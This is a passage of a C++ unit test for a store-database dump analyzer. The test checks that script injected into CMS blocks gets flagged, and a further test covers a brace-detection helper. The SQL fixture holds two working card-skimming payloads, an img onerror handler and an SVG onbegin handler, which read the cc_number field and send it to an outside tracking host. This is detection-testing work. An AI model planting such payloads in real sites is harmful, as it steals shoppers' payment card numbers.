INSERT INTO `cms_block` VALUES (1,'f','footer','<img src=x onerror = \"var n=document.querySelector(\'[name*=cc_number]\').value; new Image().src=\'https://pixel.example.top/p?d=\'+btoa(n);\">','2026-01-01 00:00:00','2026-01-02 00:00:00',1);
INSERT INTO `cms_block` VALUES (2,'p','promo','<svg width=1><animate attributeName=x onbegin = \"var n=document.querySelector(\'[name*=cc_number]\').value; navigator.sendBeacon(\'https://pixel.example.top/b\', n);\"/></svg>','2026-01-01 00:00:00','2026-01-02 00:00:00',1);
INSERT INTO `cms_block` VALUES (3,'a','about','<p>Sale: 2 for 1 = on offer</p>','2026-01-01 00:00:00','2026-01-02 00:00:00',1);
)SQL",
               "t");
  Result<AnalyzeSummary> s = AnalyzeDumpEvidence(*d.c, d.item, AnalyzeOptions());
  ASSERT_TRUE(s.ok()) << s.status().ToString();
  EXPECT_THAT(Query(d.c->db(),
                    "SELECT json_extract(detail,'$.pk') FROM findings WHERE "
                    "kind='storedb.injected_script' AND severity IN ('high','critical')"),
              UnorderedElementsAre("{\"block_id\":1}", "{\"block_id\":2}"));
}

TEST(StoreDbAnalyzer, BracesLookedForInTheRowAtOnceOrValueByValue) {
  // Values one after another in one buffer (as the reader hands them over), in another order,
  // with a gap, with NULLs: true whenever a value holds "{{" (and maybe when only a gap does).
  std::string buf = "ab{{cd{x{y";
  auto row_of = [](const std::vector<DumpValue>& v) {
    DumpRow r;
    r.values = std::span<const DumpValue>(v.data(), v.size());
    return r;
  };
  auto at = [&](size_t pos, size_t n) {
    return DumpValue{ValueKind::kString, std::string_view(buf).substr(pos, n)};
  };
  const DumpValue null{ValueKind::kNull, {}};
  std::vector<DumpValue> in_one = {at(0, 2), null, at(2, 4)};    // "ab", NULL, "{{cd"
  std::vector<DumpValue> none = {at(0, 2), at(4, 3), at(8, 2)};  // "ab", "cd{", "{y" (a gap)
  std::vector<DumpValue> apart = {at(5, 2), at(7, 2)};     // "d{", "x{": none, alone or together
  std::vector<DumpValue> reversed = {at(4, 2), at(0, 4)};  // "cd", "ab{{"
  std::vector<DumpValue> reversed_none = {at(7, 3), at(0, 3)};  // "x{y", "ab{"
  std::vector<DumpValue> nulls = {null, null};
  EXPECT_TRUE(MayHoldBraces(row_of(in_one)));
  EXPECT_TRUE(MayHoldBraces(row_of(none)));  // "{{" only in the gap: checked value by value after
  EXPECT_FALSE(MayHoldBraces(row_of(apart)));
  EXPECT_TRUE(MayHoldBraces(row_of(reversed)));
  EXPECT_FALSE(MayHoldBraces(row_of(reversed_none)));
  EXPECT_FALSE(MayHoldBraces(row_of(nulls)));
  EXPECT_FALSE(MayHoldBraces(row_of({})));
}

}  // namespace
}  // namespace tq::storedb
